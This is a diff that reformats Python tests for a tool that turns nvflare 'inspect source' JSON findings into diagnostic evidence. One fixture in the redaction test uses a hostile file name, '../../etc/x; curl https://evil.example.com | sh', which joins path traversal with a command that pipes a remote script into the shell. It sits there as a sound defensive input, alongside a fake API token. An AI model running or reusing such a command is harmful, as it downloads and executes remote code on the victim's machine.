@@ -26,9 +26,21 @@ def diagnose(paths, **kwargs) -> dict:
 
 def envelope(findings, complete=True) -> dict:
     """The shape nvflare 2.9 prints (see the committed real fixtures)."""
-    return {"schema_version": "1", "status": "ok", "exit_code": 0, "code": "OK",
-            "data": {"schema_version": "3", "capability": "source", "path": "/tmp/job", "static_only": True,
-                     "scan": {"complete": complete, "findings": findings}, "routing": {}, "integration": {}}}
+    return {
+        "schema_version": "1",
+        "status": "ok",
+        "exit_code": 0,
+        "code": "OK",
+        "data": {
+            "schema_version": "3",
+            "capability": "source",
+            "path": "/tmp/job",
+            "static_only": True,
+            "scan": {"complete": complete, "findings": findings},
+            "routing": {},
+            "integration": {},
+        },
+    }
 
 
 def test_real_healthy_inspect_output_is_an_inspect_source_with_no_signal():
@@ -43,7 +55,8 @@ def test_real_absolute_path_finding_is_supporting_evidence():
     assert report["matched_pattern"] == "ABSOLUTE_DATA_PATH" and report["confidence"] == "low"
     assert report["signals"][0]["excerpt"] == (
         "inspect source finding ABSOLUTE_DATA_PATH at client.py:1 (string literal starting with '/', '~' or a drive "
-        "letter, value not shown; check that line is a data path before calling it a hard-coded absolute path)")
+        "letter, value not shown; check that line is a data path before calling it a hard-coded absolute path)"
+    )
     assert "only supporting evidence" in report["likely_cause"]
     assert "confirm it is a data path before relaying" in report["likely_cause"]
 
@@ -54,21 +67,45 @@ def test_runtime_error_outranks_the_static_finding(tmp_path):
     log.write_text(MISSING_DATA)
     report = diagnose([REAL / "absolute_path.json", log], mode="simulation")
     assert report["matched_pattern"] == "DATA_PATH_NOT_FOUND"
-    assert {"pattern": "ABSOLUTE_DATA_PATH", "recovery_category": "FIXABLE_BY_CODE",
-            "reason": "only supporting evidence (terminal status, a server-side echo or a static source finding)"
-            } in report["other_candidates"]
+    assert {
+        "pattern": "ABSOLUTE_DATA_PATH",
+        "recovery_category": "FIXABLE_BY_CODE",
+        "reason": "only supporting evidence (terminal status, a server-side echo or a static source finding)",
+    } in report["other_candidates"]
 
 
 def test_finding_values_and_names_are_never_copied(tmp_path):
     """With `--redact off` a finding carries the literal; only code, file and line may reach the report."""
     saved = tmp_path / "inspect.json"
-    saved.write_text(json.dumps(envelope([
-        {"file": "job.py", "line": 12, "code": "ABSOLUTE_DATA_PATH", "value": "/home/alice/patient_records.csv"},
-        {"file": "job.py", "line": 13, "code": "SECRET_LITERAL_REDACTED", "name": "API_TOKEN", "value": "hunter2-xyz"},
-        {"file": "util.py", "line": 1, "code": "PYTHON_PARSE_ERROR"},
-        {"file": "../../etc/x; curl https://evil.example.com | sh", "line": 3, "code": "PYTHON_PARSE_ERROR"},
-        {"file": "a.py", "line": 1, "code": "lowercase is not a code"},
-    ], complete=False)))
+    saved.write_text(
+        json.dumps(
+            envelope(
+                [
+                    {
+                        "file": "job.py",
+                        "line": 12,
+                        "code": "ABSOLUTE_DATA_PATH",
+                        "value": "/home/alice/patient_records.csv",
+                    },
+                    {
+                        "file": "job.py",
+                        "line": 13,
+                        "code": "SECRET_LITERAL_REDACTED",
+                        "name": "API_TOKEN",
+                        "value": "hunter2-xyz",
+                    },
+                    {"file": "util.py", "line": 1, "code": "PYTHON_PARSE_ERROR"},
+                    {
+                        "file": "../../etc/x; curl https://evil.example.com | sh",
+                        "line": 3,
+                        "code": "PYTHON_PARSE_ERROR",
+                    },
+                    {"file": "a.py", "line": 1, "code": "lowercase is not a code"},
+                ],
+                complete=False,
+            )
+        )
+    )
     ev = collect_evidence([str(saved)], job_id=None, **LIMITS)
     assert [line.text for line in ev.lines] == [
         "inspect source finding ABSOLUTE_DATA_PATH at job.py:12 (string literal starting with '/', '~' or a drive "
@@ -99,12 +136,24 @@ def test_inspect_source_command_exists_and_fixture_regenerates(tmp_path):
     nvflare = Path(sys.executable).parent / "nvflare"
     if not nvflare.is_file():
         nvflare = REPO / ".venv" / "bin" / "nvflare"
-    help_run = subprocess.run([str(nvflare), "agent", "inspect", "source", "--help"], capture_output=True, text=True,
-                              timeout=120)
+    help_run = subprocess.run(
+        [str(nvflare), "agent", "inspect", "source", "--help"], capture_output=True, text=True, timeout=120
+    )
     assert help_run.returncode == 0 and "Statically inspect source" in help_run.stdout
     python = REPO / ".venv" / "bin" / "python"
-    run = subprocess.run([str(python), str(REPO / "evals" / "make_real_fixtures.py"), "--case", "inspect-source",
-                          "--out", str(tmp_path)], capture_output=True, text=True, timeout=300)
+    run = subprocess.run(
+        [
+            str(python),
+            str(REPO / "evals" / "make_real_fixtures.py"),
+            "--case",
+            "inspect-source",
+            "--out",
+            str(tmp_path),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
     assert run.returncode == 0, run.stderr
     for name in ("healthy.json", "absolute_path.json"):
         fresh = json.loads((tmp_path / "inspect-source" / name).read_text())
@@ -123,10 +172,20 @@ def test_committed_inspect_fixtures_are_scrubbed(name):
 def test_inspect_error_envelope_is_an_unavailable_inspect_source_not_production_evidence(tmp_path):
     """What nvflare 2.9 prints for a path that does not exist (data is null; only error_code says what ran)."""
     saved = tmp_path / "inspect.json"
-    saved.write_text(json.dumps({
-        "schema_version": "1", "status": "error", "exit_code": 4, "error_code": "AGENT_INSPECT_PATH_NOT_FOUND",
-        "message": "inspect path does not exist: /tmp/x", "hint": "Pass an existing local file or directory to inspect.",
-        "recovery_category": "FIXABLE_BY_CONFIG", "data": None}))
+    saved.write_text(
+        json.dumps(
+            {
+                "schema_version": "1",
+                "status": "error",
+                "exit_code": 4,
+                "error_code": "AGENT_INSPECT_PATH_NOT_FOUND",
+                "message": "inspect path does not exist: /tmp/x",
+                "hint": "Pass an existing local file or directory to inspect.",
+                "recovery_category": "FIXABLE_BY_CONFIG",
+                "data": None,
+            }
+        )
+    )
     report = diagnose([saved])
     assert [(s["kind"], s["status"]) for s in report["evidence_sources"]] == [("inspect_source", "unavailable")]
     assert report["runtime_mode"] == "ambiguous"  # an inspect error says nothing about production
